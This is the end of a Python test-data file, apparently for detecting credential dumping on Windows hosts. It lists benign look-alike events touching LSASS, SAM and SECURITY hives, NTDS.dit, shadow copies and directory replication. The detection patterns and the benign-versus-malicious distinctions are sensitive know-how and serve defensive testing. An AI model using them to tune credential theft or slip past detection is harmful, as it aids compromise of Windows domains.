near-dh-procexp access: «C:\Tools¦C:\Users\‹user›\Downloads¦C:\ProgramData\chocolatey\lib\sysinternals\tools»\procexp64.exe ;; ‹lsass› ;; «0x1000¦0x1400» ;; C:\Windows\System32\KERNELBASE.dll|C:\Tools\procexp64.exe
near-dh-wer-other access: ‹s32›\WerFault.exe ;; «C:\Program Files\‹Word›\‹name›.exe¦‹office›¦‹s32›\spoolsv.exe» ;; «0x1fffff¦0x1478» ;; C:\Windows\System32\KERNELBASE.dll|C:\Windows\System32\faultrep.dll|C:\Windows\System32\dbgcore.dll|C:\Windows\System32\WerFault.exe
near-dh-comsvcs-other access: ‹sys›\rundll32.exe ;; «‹s32›\inetsrv\w3wp.exe¦C:\Program Files\‹Word›\‹name›.exe» ;; 0x1fffff ;; C:\Windows\System32\KERNELBASE.dll|C:\Windows\System32\comsvcs.dll|C:\Windows\System32\rundll32.exe
near-dh-jit-unknown access: ‹ps› ;; «‹s32›\conhost.exe¦‹s32›\whoami.exe¦C:\Program Files\‹Word›\‹name›.exe» ;; «0x1410¦0x1010¦0x1fffff» ;; C:\Windows\System32\KERNELBASE.dll|UNKNOWN(‹hex›)|C:\Windows\Microsoft.NET\Framework64\v4.0.30319\clr.dll
near-dh-4656-scan security: 4656 ;; ObjectServer=Security ;; ObjectType=Process ;; ObjectName=‹lsass_device› ;; AccessList=%%4484↵%%4490 ;; AccessMask=«0x1410¦0x410» ;; ProcessName=C:\«ProgramData\Microsoft\Windows Defender\Platform\4.18.2‹pid›.‹n›-0\MsMpEng¦Program Files\«CrowdStrike\CSFalconService¦Qualys\QualysAgent\QualysAgent»».exe
near-dh-4656-query security: 4656 ;; ObjectType=Process ;; ObjectName=‹lsass_device› ;; AccessList=%%4490 ;; AccessMask=«0x1000¦0x1400» ;; ProcessName=«‹s32›\«svchost¦wbem\WmiPrvSE¦Taskmgr».exe¦‹own›»
near-dh-4663-av security: 4663 ;; ObjectType=Process ;; ObjectName=‹lsass_device› ;; AccessList=%%4484 ;; AccessMask=0x10 ;; ProcessName=C:\Program Files\«Windows Defender\MsMpEng¦Sophos\Endpoint Defense\SSPService¦ESET\ESET Security\ekrn¦Trend Micro\AMSP\coreServiceShell».exe ;; ResourceAttributes=-
near-dh-4656-boot security: 4656 ;; ObjectType=Process ;; ObjectName=‹lsass_device› ;; AccessList=%%1537↵%%1538↵%%4480↵%%4484 ;; AccessMask=0x1fffff ;; ProcessName=‹s32›\«csrss¦wininit».exe
near-dh-4656-other security: 4656 ;; ObjectType=Process ;; ObjectName=\Device\HarddiskVolume«2¦3»\Program Files\‹Word›\‹name›.exe ;; AccessList=%%1537↵%%4480↵%%4484 ;; AccessMask=«0x1fffff¦0x1410» ;; ProcessName=«‹own›¦‹ps›» ;; PrivilegeList=SeDebugPrivilege
# Ordinary: dump files, modules, threads, registry
near-dh-file-taskmgr file: ‹s32›\Taskmgr.exe ;; C:\Users\‹user›\AppData\Local\Temp\«OUTLOOK¦explorer¦‹name›».DMP
near-dh-file-silent file: ‹s32›\WerFault.exe ;; «C:\Temp¦D:\dumps»\‹name›.exe-(PID-‹pid›)-‹pid›‹pid›\‹name›.exe-(PID-‹pid›).dmp
near-dh-file-gcdump file: C:\«Program Files\dotnet\dotnet¦Users\‹user›\.dotnet\tools\dotnet-dump».exe ;; ‹ownplace›\«dump_202‹n›¦core_‹name›_‹pid›».dmp
near-dh-load-samlib loadsigned: «‹s32›\«lusrmgr¦net1¦mmc¦dsregcmd¦LogonUI».exe¦C:\Program Files\‹Word›\‹name›.exe» ;; C:\Windows\System32\samlib.dll
near-dh-load-wdigest loadsigned: ‹lsass› ;; C:\Windows\System32\«wdigest¦msv1_0¦kerberos¦tspkg¦cloudAP».dll
near-dh-load-comsvcs sysmon: 7 ;; Image=‹s32›\«dllhost¦svchost¦mmc¦msdtc».exe ;; ImageLoaded=C:\Windows\System32\comsvcs.dll ;; Description=COM+ Services ;; Signed=true
near-dh-load-dbgcore loadsigned: C:\Program Files\«‹Word›\crashpad_handler¦Google\Chrome\Application\chrome¦Microsoft Office\root\Office16\WINWORD».exe ;; C:\Windows\System32\dbg«core¦help».dll
near-dh-thread-ctrl thread: ‹s32›\«csrss¦wininit».exe ;; ‹lsass› ;; C:\Windows\System32\KERNELBASE.dll ;; CtrlRoutine
near-dh-thread-load thread: C:\Program Files\‹Word›\‹name›.exe ;; C:\Program Files\‹Word›\‹name›.exe ;; C:\Windows\System32\KERNEL32.DLL ;; LoadLibraryW
near-dh-exit-monitor value: «‹reg›¦C:\Program Files (x86)\Windows Kits\10\Debuggers\x64\gflags.exe» ;; HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\«‹name›.exe¦w3wp.exe»\LocalDumpFolder ;; «C:\Temp¦D:\dumps¦‹ownplace›»
near-dh-localdumps value: «‹reg›¦‹ps›¦‹s32›\msiexec.exe» ;; HKLM\SOFTWARE\Microsoft\Windows\Windows Error Reporting\LocalDumps\«‹name›.exe¦w3wp.exe¦OUTLOOK.EXE»\DumpFolder ;; «D:\dumps¦‹ownplace›»
near-dh-audit-lsass value: ‹reg› ;; HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\LSASS.exe\AuditLevel ;; DWORD (0x00000008)
# Ordinary: processes and scripts with the same tools
near-dh-procdump process: @ ;; «C:\Tools¦‹ownplace›»\procdump64.exe -accepteula «-ma¦-mp¦-e -h -ma» «w3wp.exe¦‹name›.exe¦‹pid›» «D:\dumps¦‹ownplace›»\‹name›.dmp ;; «‹cmd›¦‹ps›»
near-dh-createdump process: @ ;; "C:\Program Files\dotnet\shared\Microsoft.NETCore.App\8.0.‹n›\createdump.exe" --full -f D:\dumps\‹name›.dmp ‹pid› ;; «C:\Program Files\dotnet\dotnet.exe¦‹cmd›»
near-dh-sqldumper process: @ ;; "C:\Program Files\Microsoft SQL Server\150\Shared\SqlDumper.exe" ‹pid› 0 0x0120 0 D:\dumps ;; «C:\Program Files\Microsoft SQL Server\MSSQL15.MSSQLSERVER\MSSQL\Binn\sqlservr.exe¦‹cmd›»
near-dh-tasklist process: @ ;; «tasklist /m wdigest.dll¦tasklist /svc /fi "pid eq ‹pid›"¦wmic process where name="lsass.exe" get ProcessId,WorkingSetSize» ;; ‹cmd›
near-dh-script-lsass log: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; MessageNumber=1 ;; ScriptBlockText=$p = Get-Process lsass; if ($p.WorkingSet64 -gt 2GB) { Send-MailMessage -To 'ops@‹fqdn›' -Subject "lsass memory on $env:COMPUTERNAME" -SmtpServer ‹server› } ;; Path=
# Ordinary: SAM, SECURITY and hives
near-dh-sam-lsass security: «4656¦4663» ;; ObjectType=Key ;; ObjectName=\REGISTRY\MACHINE\SAM\SAM\Domains\Account\Users\000001F«4¦5» ;; AccessList=%%4432↵%%4435 ;; AccessMask=0x9 ;; ProcessName=‹lsass›
near-dh-sam-file-av security: «4656¦4663» ;; ObjectType=File ;; ObjectName=C:\Windows\System32\config\«SAM¦RegBack\SAM» ;; AccessList=%%4416 ;; AccessMask=0x1 ;; ProcessName=C:\«Program Files\Windows Defender\MsMpEng¦Windows\System32\«VSSVC¦wbengine»¦Program Files\‹Word› Backup\‹name›».exe
near-dh-sam-12 key: ‹lsass› ;; HKLM\SAM\SAM\Domains\«Account\Users\Names\‹user›¦Builtin\Aliases\Members\S-1-5-21-‹pid›»
near-dh-secrets-lsass security: «4656¦4663» ;; ObjectType=Key ;; ObjectName=\REGISTRY\MACHINE\SECURITY\Policy\Secrets\«_SC_‹name›¦$MACHINE.ACC»\CurrVal ;; AccessList=%%4432 ;; AccessMask=0x1 ;; ProcessName=«‹lsass›¦‹s32›\services.exe»
near-dh-secrets-12 key: «‹lsass›¦‹s32›\services.exe» ;; HKLM\SECURITY\Policy\Secrets\«_SC_‹name›¦$MACHINE.ACC»\«CurrVal¦OldVal¦CupdTime»
near-dh-cache-lsass value: ‹lsass› ;; HKLM\SECURITY\Cache\NL$«1¦3¦Control» ;; Binary Data
near-dh-cache-count process: @ ;; reg query "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon" /v CachedLogonsCount ;; ‹cmd›
near-dh-save-other process: @ ;; reg«.exe¦» save «HKLM\SOFTWARE\‹Word›¦HKCU\Software\‹Word›¦"HKLM\SYSTEM\CurrentControlSet\Services\‹name›"» ‹ownplace›\‹name›.«hiv¦save» /y ;; «‹cmd›¦‹ps›»
near-dh-file-reg file: ‹reg› ;; ‹ownplace›\«software¦ntuser¦services_‹name›».«hiv¦save¦hive»
near-dh-winreg security: 5145 ;; SubjectUserName=«svc_monitor¦‹host›$» ;; IpAddress=‹ip› ;; ShareName=\\*\IPC$ ;; RelativeTargetName=winreg ;; AccessMask=0x12019f
near-dh-remote-registry state: Remote Registry ;; «running¦stopped»
near-dh-script-lsa log: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; MessageNumber=1 ;; ScriptBlockText=Get-ItemProperty 'HKLM:\SYSTEM\CurrentControlSet\Control\Lsa' -Name RunAsPPL, LmCompatibilityLevel | Export-Csv D:\audit\‹host›.csv
near-dh-esentutl process: @ ;; esentutl.exe /y «/vss ¦»C:\Windows\System32\«sru\SRUDB.dat¦LogFiles\Sum\Current.mdb» /d ‹ownplace›\‹name›.dat ;; «‹cmd›¦‹ps›»
near-dh-copy-shadow process: ‹cmd› ;; cmd.exe /c copy ‹vss›\«Users\‹user›\Documents\‹name›.xlsx¦Data\‹name›.mdb» ‹ownplace› ;; ‹ps›
# Ordinary: NTDS and shadow copies
near-dh-ntdsutil process: @ ;; ntdsutil«.exe¦» "activate instance ntds" «"files" "integrity"¦"files" "info"¦"snapshot" "list all"¦"semantic database analysis" "go"» q q ;; ‹cmd›
near-dh-wbadmin process: @ ;; wbadmin start backup -backuptarget:«E:¦\\‹server›\backup» -include:«D:\‹project›¦C:» -allCritical -quiet ;; «‹cmd›¦‹s32›\svchost.exe»
near-dh-wbadmin-restore process: @ ;; wbadmin start recovery -version:0‹n›/1‹n›/2024-10:‹n› -itemtype:file -items:D:\‹project›\‹name›.xlsx -recoverytarget:‹ownplace› -quiet ;; ‹cmd›
near-dh-diskshadow process: ‹s32›\diskshadow.exe ;; diskshadow.exe /s «D:\scripts¦C:\ProgramData\‹Word›»\«sql_snap¦hyperv¦‹name›».dsh ;; «‹cmd›¦‹s32›\svchost.exe»
near-dh-vss-state state: «Volume Shadow Copy¦Microsoft Software Shadow Copy Provider¦Block Level Backup Engine Service» ;; «running¦stopped»
near-dh-8222 log: VSSAudit|Security|8222 ;; param1=S-1-5-18 ;; param2=NT AUTHORITY\SYSTEM ;; param3=0x‹pid› ;; param4=C:\Program Files\«Veeam\Backup and Replication\VSS\VeeamVssSupport¦Commvault\ContentStore\Base\clBackup¦Rubrik\Rubrik Backup Service\rba».exe ;; param5=‹guid› ;; param7=‹server› ;; param8=C:\ ;; param9=\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy‹n›
near-dh-ntds-writer log: ESENT|Application|«2001¦2003¦2005» ;; param1=lsass ;; param2=‹pid›,D,‹n› ;; param3= ;; param4=Shadow copy instance ‹n› freeze
near-dh-ntds-defrag log: NTDS ISAM|Directory Service|70«0¦1» ;; param1=NTDS ;; param2=‹pid›,D,‹n› ;; param3=NTDSA: ;; param4=C:\Windows\NTDS\ntds.dit
near-dh-esent-created database: 325 ;; «svchost¦SearchIndexer¦taskhostw¦‹name›» ;; «C:\ProgramData\Microsoft\Search\Data\Applications\Windows\Windows.edb¦‹ownplace›\‹name›\‹name›.edb¦C:\Windows\SoftwareDistribution\DataStore\DataStore.edb»
near-dh-esent-promoted database: 325 ;; lsass ;; «C:\Windows¦D:¦E:\AD»\NTDS\«ntds.dit¦tempedb.edb»
near-dh-ntds-backup security: 4663 ;; ObjectType=File ;; ObjectName=«\Device\HarddiskVolumeShadowCopy‹n›\Windows\NTDS\ntds.dit¦C:\Windows\NTDS\ntds.dit» ;; AccessList=%%4416 ;; AccessMask=0x1 ;; ProcessName=C:\Program Files\«Veeam\Backup and Replication\Backup\VeeamAgent¦Veritas\NetBackup\bin\bpbkar32¦Tivoli\TSM\baclient\dsmc».exe
near-dh-raw-read sysmon: 9 ;; Image=«C:\Windows\System32\«VSSVC¦wbengine¦svchost¦defrag».exe¦C:\Program Files\Veeam\Endpoint Backup\Veeam.EndPoint.Manager.exe» ;; Device=\Device\HarddiskVolume«1¦2¦3»
# Ordinary: replication
near-dh-repl-dc security: 4662 ;; SubjectUserSid=‹sid› ;; SubjectUserName=«DC0‹n›¦AD‹n›¦‹host›»$ ;; SubjectDomainName=‹domain› ;; ObjectType=%{19195a5b-6da0-11d0-afd3-00c04fd930c9} ;; AccessMask=0x100 ;; Properties=%%7688↵{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}↵{19195a5b-6da0-11d0-afd3-00c04fd930c9}
near-dh-repl-system security: 4662 ;; SubjectUserSid=S-1-5-18 ;; SubjectUserName=«DC0‹n›¦‹host›»$ ;; SubjectDomainName=‹domain› ;; ObjectServer=DS ;; AccessMask=0x100 ;; Properties=%%7688↵{89e95b76-444d-4c62-991a-0facbeda640c}
near-dh-repl-partner security: «4928¦4929» ;; SubjectUserName=DC0‹n›$ ;; DestinationDRA=CN=NTDS Settings,CN=DC0‹n›,CN=Servers,CN=‹Word›,CN=Sites,CN=Configuration,‹dc› ;; SourceDRA=CN=NTDS Settings,CN=DC0‹n›,CN=Servers,CN=‹Word›,CN=Sites,CN=Configuration,‹dc› ;; SourceAddr=‹guid›._msdcs.‹fqdn› ;; NamingContext=‹dc› ;; StatusCode=0
near-dh-repadmin process: @ ;; repadmin«.exe¦» «/syncall /AdeP¦/showrepl ‹server›¦/replicate ‹server› DC0‹n› ‹dc›¦/replsummary» ;; ‹cmd›
near-dh-repl-script log: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4104 ;; MessageNumber=1 ;; ScriptBlockText=«Get-ADReplicationPartnerMetadata -Target ‹server› -Scope Domain¦Get-ADUser krbtgt -Properties PasswordLastSet -Server ‹server›¦Sync-ADObject -Object '‹dn›' -Source ‹server› -Destination DC0‹n›»
near-dh-repl-4103 log: Microsoft-Windows-PowerShell|Microsoft-Windows-PowerShell/Operational|4103 ;; Payload=CommandInvocation(Get-ADReplicationFailure): ParameterBinding(Get-ADReplicationFailure): name="Target"; value="‹server›" ;; ContextInfo=User = ‹domain›\‹user›
"""
)

# Who asks tells replication apart: people on one side, the directory's own accounts on the other.
_ELEVATED = {"dh-dcsync-user": False, "dh-dcsync-both": False, "dh-dcsync-filtered": False}
_ELEVATED |= {"near-dh-repl-dc": True, "near-dh-repl-system": True}
HOST_DUMPING_EVENTS = tuple(one._replace(elevated=_ELEVATED.get(one.name)) for one in _EVENTS)
